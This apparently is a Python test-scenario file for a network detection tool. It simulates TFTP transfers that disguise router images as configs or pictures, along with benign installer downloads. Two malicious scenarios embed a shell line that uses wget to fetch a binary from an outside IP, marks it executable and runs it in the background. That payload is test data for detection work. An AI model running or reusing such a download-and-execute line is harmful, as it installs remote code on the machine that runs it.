"""BW23: the bytes are an image and the name says otherwise, or the other way round."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import BOOT_SERVER, DEVICE, HQ, IMAGE, LAB
from bootwarden.scenarios.tftp_networks import qinq
from bootwarden.traffic import images, tftp
from bootwarden.traffic.wire import Wire


@scenario(
    "BW23",
    "malicious",
    raises=[("BW23", 0, "10.0.0.5", "10.0.1.1")],
    raises_with_site=[("BW20", 0, "10.0.0.5", "10.0.1.1"), ("BW23", 0, "10.0.0.5", "10.0.1.1")],
    plain=Expect(notices=(Notice("Disguised_Image", DEVICE, BOOT_SERVER, "startup-config"),)),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("Disguised_Image", DEVICE, BOOT_SERVER, "startup-config"),
            Notice("Unapproved_Image", DEVICE, BOOT_SERVER, "startup-config"),
        )
    ),
)
def bw23_image_as_config(wire: Wire) -> None:
    """A router fetches an image under the name of a configuration."""
    tftp.read(wire, DEVICE, BOOT_SERVER, "startup-config", images.ios(seed="disguised"))


LOGO = Notice("Disguised_Image", DEVICE, BOOT_SERVER, "www/LOGO.JPG")


@scenario(
    "BW23",
    "malicious",
    raises=[("BW23", 0, "10.0.0.5", "10.0.1.1")],
    plain=Expect(notices=(LOGO,)),
    site=HQ,
    with_site=Expect(notices=(LOGO,)),
)
def bw23_image_as_picture(wire: Wire) -> None:
    """The approved image, of all things, as a picture: large blocks, capitals, a path."""
    tftp.read(wire, DEVICE, BOOT_SERVER, "www/LOGO.JPG", images.ios(), offer={"blksize": 1428, "tsize": 0})


@scenario(
    "BW23",
    "malicious",
    raises=[("BW23", 0, "10.0.0.5", "10.0.1.1")],
    plain=Expect(notices=(LOGO,)),
    site=HQ,
    with_site=Expect(notices=(LOGO,)),
)
def bw23_asked_in_vain_before(wire: Wire) -> None:
    """The same name was asked for and not answered; a minute later a port that ends alike asks, and is."""
    vain = tftp.Transfer(wire, DEVICE, BOOT_SERVER, "www/LOGO.JPG", b"", client_port=50000)
    vain.ask()
    wire.wait(65)
    tftp.read(wire, DEVICE, BOOT_SERVER, "www/LOGO.JPG", images.ios(), client_port=50016)


SCRIPT = b"#!/bin/sh\nwget -O /tmp/x http://45.83.20.10/x && chmod +x /tmp/x && /tmp/x &\n" * 4


@scenario(
    "BW23",
    "malicious",
    raises=[("BW23", 1, "10.0.0.5", "10.0.1.1")],
    raises_with_site=[("BW21", 0, "10.0.0.5", "10.0.1.1"), ("BW23", 1, "10.0.0.5", "10.0.1.1")],
    plain=Expect(notices=(Notice("Disguised_Image", DEVICE, BOOT_SERVER, IMAGE),)),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("Disguised_Image", DEVICE, BOOT_SERVER, IMAGE),
            Notice("Modified_Image", DEVICE, BOOT_SERVER, IMAGE),
        )
    ),
)
def bw23_script_as_image(wire: Wire) -> None:
    """A shell script comes under the name of an image."""
    tftp.read(wire, DEVICE, BOOT_SERVER, IMAGE, SCRIPT)


def installer(payload: str) -> bytes:
    """A self-extracting installer as ONIE's makes them: a shell script, its mark, and an archive."""
    script = (
        "#!/bin/sh\n\n"
        "##  Shell archive template for an ONIE installer\n"
        + "".join(f"## step {n}: look for the partition, keep the configuration, check the sum\n" for n in range(20))
        + f"payload_sha1={'0123456789' * 4}\n"
        'echo -n "Verifying image checksum ..."\n'
        "sed -e '1,/^exit_marker$/d' $0 | tar xf - || exit 1\n"
        "exec installer/install.sh\n"
        "exit_marker\n"
    )
    return script.encode() + images.filler(2500, payload)


@scenario("BW23", "benign", site=LAB, with_site=Expect())
def bw23_onie(wire: Wire) -> None:
    """ONIE tries its names, then installs SONiC and Cumulus from self-extracting archives."""
    device, port = "10.0.1.40", iter(range(50100, 50120))
    for name in (
        "02-00-aa-bb-cc-dd/onie-installer-x86_64-acme_s1-r0",
        "onie-installer-x86_64-acme_s1-r0.bin",
    ):
        tftp.refused(wire, device, BOOT_SERVER, name, client_port=next(port))
    for name in ("onie-installer-x86_64", "sonic-broadcom.bin", "cumulus-linux-5.1.0-mlx-amd64.bin"):
        tftp.read(wire, device, BOOT_SERVER, name, installer(name), offer={"blksize": 1468}, client_port=next(port))


@scenario("BW23", "benign", site=LAB, with_site=Expect())
def bw23_names_that_say_nothing(wire: Wire) -> None:
    """Compressed configurations, images under unknown extensions or none, a text that is one."""
    port = iter(range(50200, 50220))
    for name, content in (
        ("vrpcfg.zip", b"PK\x03\x04" + images.filler(900, "vrp")),
        ("edge2-confg.gz", b"\x1f\x8b\x08\x00" + images.filler(900, "gz")),
        ("router.image.old", images.ios()),
        ("stage2", images.mzip(3000)),
        ("tar_imglist0.txt", f"{IMAGE}\n".encode()),
        ("edge2-confg", images.config("edge2")),
    ):
        tftp.read(wire, DEVICE, BOOT_SERVER, name, content, client_port=next(port))


@scenario(
    "BW23",
    "malicious",
    raises=[("BW23", 3, DEVICE, BOOT_SERVER)],
    plain=Expect(notices=(Notice("Disguised_Image", "10.0.1.1", "10.0.0.5", "c2900-universalk9-mz.SPA.157-3.M8.bin"),)),
    site=HQ,
    with_site=Expect(
        notices=(Notice("Disguised_Image", "10.0.1.1", "10.0.0.5", "c2900-universalk9-mz.SPA.157-3.M8.bin"),)
    ),
)
def bw23_script_is_put_on_the_server(wire: Wire) -> None:
    """A shell script is written to the boot server under the name of the approved image."""
    script = b"#!/bin/sh\nwget -O /tmp/x http://45.83.20.10/x && chmod +x /tmp/x && /tmp/x &\n" * 4
    tftp.write(wire, DEVICE, BOOT_SERVER, IMAGE, script)


@scenario(
    "BW23",
    "malicious",
    raises=[("BW23", 0, BOOT_SERVER, DEVICE)],
    plain=Expect((Notice("Disguised_Image", DEVICE, BOOT_SERVER, "backup.txt"),)),
)
def bw23_in_fragments(wire: Wire) -> None:
    """An image under a text's name, in blocks of six fragments and two VLAN tags."""
    wire.encapsulate = qinq
    tftp.read(wire, DEVICE, BOOT_SERVER, "backup.txt", images.ios(size=20_000), offer={"blksize": 8192})
